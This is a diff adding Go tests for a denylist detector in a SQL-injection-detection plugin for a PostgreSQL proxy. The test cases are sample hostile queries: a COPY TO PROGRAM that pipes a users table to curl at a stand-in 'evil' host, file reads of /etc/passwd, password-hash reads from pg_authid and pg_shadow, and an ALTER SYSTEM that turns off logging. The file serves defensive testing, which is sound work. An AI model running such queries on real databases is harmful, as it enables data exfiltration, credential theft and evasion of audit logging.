@@ -0,0 +1,182 @@
+package plugin
+
+import (
+	"context"
+	"errors"
+	"testing"
+	"time"
+
+	sdkAct "github.com/gatewayd-io/gatewayd-plugin-sdk/act"
+	"github.com/hashicorp/go-hclog"
+	"github.com/jackc/pgx/v5/pgproto3"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func Test_DenylistDetectorMatch(t *testing.T) {
+	detector := &DenylistDetector{
+		Functions: DefaultDenylistFunctions,
+		Commands:  DenylistCommands,
+		Objects:   append([]string{"public.secrets"}, DefaultDenylistObjects...),
+		Logger:    hclog.NewNullLogger(),
+	}
+
+	for query, expected := range map[string][]string{
+		"SELECT pg_sleep(5)": {"pg_sleep"},
+		"SELECT * FROM users WHERE id = 1 AND PG_CATALOG.PG_SLEEP(5) IS NULL": {"pg_sleep"},
+		"SELECT lo_import('/etc/passwd'), lo_export(1, '/tmp/x')":             {"lo_import", "lo_export"},
+		"SELECT * FROM pg_read_file('/etc/passwd')":                           {"pg_read_file"},
+		"SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)":           {"dblink"},
+		"SELECT pg_terminate_backend(pid) FROM pg_stat_activity":              {"pg_terminate_backend"},
+		"COPY users TO PROGRAM 'curl http://evil -d @-'":                      {CommandCopyProgram},
+		"COPY (SELECT 1) TO '/tmp/out'":                                       {CommandCopyFile},
+		"COPY users FROM STDIN":                                               nil,
+		"CREATE EXTENSION IF NOT EXISTS plpython3u":                           {CommandCreateExtension},
+		"ALTER SYSTEM SET shared_preload_libraries = 'evil'":                  {CommandAlterSystem},
+		"LOAD 'evil'":                                  {CommandLoad},
+		"DO $$ BEGIN PERFORM 1; END $$":                {CommandDo},
+		"SELECT rolpassword FROM pg_catalog.pg_authid": {"pg_authid"},
+		"SELECT * FROM users WHERE name = (SELECT usename FROM pg_shadow LIMIT 1)": {"pg_shadow"},
+		// Qualified entries only match qualified names.
+		"SELECT * FROM public.secrets":     {"public.secrets"},
+		"SELECT * FROM secrets":            nil,
+		"SELECT * FROM users WHERE id = 1": nil,
+		"SELECT sleep(5)":                  nil,
+	} {
+		denied, err := detector.Match(query)
+		require.NoError(t, err, query)
+		assert.Equal(t, expected, denied, query)
+	}
+}
+
+func Test_DenylistDetector(t *testing.T) {
+	p := &Plugin{
+		Logger:              hclog.NewNullLogger(),
+		DenylistFunctions:   DefaultDenylistFunctions,
+		DenylistCommands:    DefaultDenylistCommands,
+		DenylistObjects:     DefaultDenylistObjects,
+		DenylistExemptUsers: []string{"dba"},
+		DenylistAction:      DenylistBlock,
+	}
+	detector := p.denylist()
+	require.NotNil(t, detector)
+
+	query := "SELECT pg_sleep(10); ALTER SYSTEM SET log_statement = 'none'"
+	ctx := WithSession(context.Background(), Session{User: "app"})
+	verdict, err := detector.Inspect(ctx, query)
+	require.NoError(t, err)
+	assert.True(t, verdict.Injection)
+	assert.InDelta(t, 1, verdict.Score, 0)
+	assert.Equal(t, map[string]any{
+		DeniedField: []string{"pg_sleep", CommandAlterSystem},
+	}, verdict.Evidence)
+
+	// The denied functions called in the body of DO are not found, so DO is
+	// denied as a whole.
+	for _, do := range []string{
+		"DO $$ BEGIN PERFORM pg_sleep(10); END $$",
+		"DO $$ BEGIN PERFORM lo_import('/etc/passwd'); END $$",
+	} {
+		verdict, err = detector.Inspect(ctx, do)
+		require.NoError(t, err)
+		assert.True(t, verdict.Injection, do)
+		assert.Equal(t, map[string]any{DeniedField: []string{CommandDo}}, verdict.Evidence)
+	}
+
+	// The queries of the exempt users are not flagged.
+	verdict, err = detector.Inspect(WithSession(context.Background(), Session{User: "dba"}), query)
+	require.NoError(t, err)
+	assert.False(t, verdict.Injection)
+
+	// Queries that can't be parsed are not flagged.
+	verdict, err = detector.Inspect(ctx, "pg_sleep(10")
+	require.NoError(t, err)
+	assert.False(t, verdict.Injection)
+
+	// The denylist is disabled by default, and is not available for MySQL.
+	assert.Nil(t, (&Plugin{Logger: hclog.NewNullLogger()}).denylist())
+	p.Protocol = MySQLProtocol
+	assert.Nil(t, p.denylist())
+}
+
+func Test_InspectDenylist(t *testing.T) {
+	p := &Plugin{
+		Logger:           hclog.NewNullLogger(),
+		DenylistCommands: DefaultDenylistCommands,
+		DenylistAction:   DenylistBlock,
+	}
+	query := &clientQuery{source: QuerySource, text: "COPY users TO PROGRAM 'curl http://evil -d @-'"}
+
+	// Neither a failure of the prediction API nor the combination of the
+	// detectors turns the denylist off.
+	pipeline := &Pipeline{
+		Detectors:     []Detector{&stubDetector{name: DeepLearningModel, err: errors.New("unavailable")}},
+		FailurePolicy: FailureAllow,
+		Logger:        hclog.NewNullLogger(),
+	}
+	result := p.inspect(context.Background(), pipeline, query)
+	assert.True(t, result.Detected)
+	require.NotNil(t, result.Verdict())
+	assert.Equal(t, Denylist, result.Verdict().Detector)
+
+	pipeline = &Pipeline{
+		Detectors:   []Detector{&stubDetector{name: "first", injection: true}, &stubDetector{name: "second"}},
+		Combination: CombineAll,
+		Logger:      hclog.NewNullLogger(),
+	}
+	result = p.inspect(context.Background(), pipeline, query)
+	assert.True(t, result.Detected)
+	assert.Equal(t, Denylist, result.Verdict().Detector)
+
+	// Bound parameters are values, which are never denied.
+	result = p.inspect(context.Background(), pipeline, &clientQuery{source: BindSource, text: query.text})
+	assert.False(t, result.Detected)
+
+	// With the flag action, a denied query is flagged, unless detected.
+	p.DenylistAction = DenylistFlag
+	result = p.inspect(context.Background(), pipeline, query)
+	assert.False(t, result.Detected)
+	require.NotNil(t, result.Flagged)
+	assert.Equal(t, Denylist, result.Flagged.Detector)
+
+	pipeline.Combination = CombineAny
+	result = p.inspect(context.Background(), pipeline, query)
+	assert.True(t, result.Detected)
+	assert.Equal(t, "first", result.Verdict().Detector)
+	assert.Nil(t, result.Flagged)
+}
+
+func Test_OnTrafficFromClientDenylistFlag(t *testing.T) {
+	p := &Plugin{
+		Logger:           hclog.NewNullLogger(),
+		Detectors:        []string{SyntaxTree},
+		DenylistCommands: DefaultDenylistCommands,
+		DenylistAction:   DenylistFlag,
+		Connections:      NewConnectionTracker(),
+		RecentDetections: NewDetectionLog(10),
+		Offenders:        NewOffenderTracker([]string{BanScopeClient}, 1, time.Minute, time.Hour),
+	}
+
+	// The flagged query passes through, and is logged to the audit trail.
+	req := newTrafficRequest(t, encodeMessages(t, &pgproto3.Query{String: "ALTER SYSTEM SET log_statement = 'none'"}))
+	resp, err := p.OnTrafficFromClient(context.Background(), req)
+	require.NoError(t, err)
+	assert.Nil(t, resp.Fields[ResponseField])
+	assert.NotNil(t, resp.Fields[sdkAct.Signals])
+
+	records := p.RecentDetections.Recent()
+	require.Len(t, records, 1)
+	assert.Equal(t, Denylist, records[0].Fields[DetectorField])
+	assert.Equal(t, DenylistFlag, records[0].Fields[ActionField])
+	assert.Equal(t, []string{CommandAlterSystem}, records[0].Fields[DeniedField])
+	// A flag doesn't count towards the ban of the client.
+	assert.NotContains(t, records[0].Fields, OffenderField)
+	assert.Empty(t, p.Offenders.bans)
+
+	// With the block action, the query is blocked.
+	p.DenylistAction = DenylistBlock
+	resp, err = p.OnTrafficFromClient(context.Background(), req)
+	require.NoError(t, err)
+	assert.NotNil(t, resp.Fields[ResponseField])
+	assert.Len(t, p.Offenders.bans, 1)
+}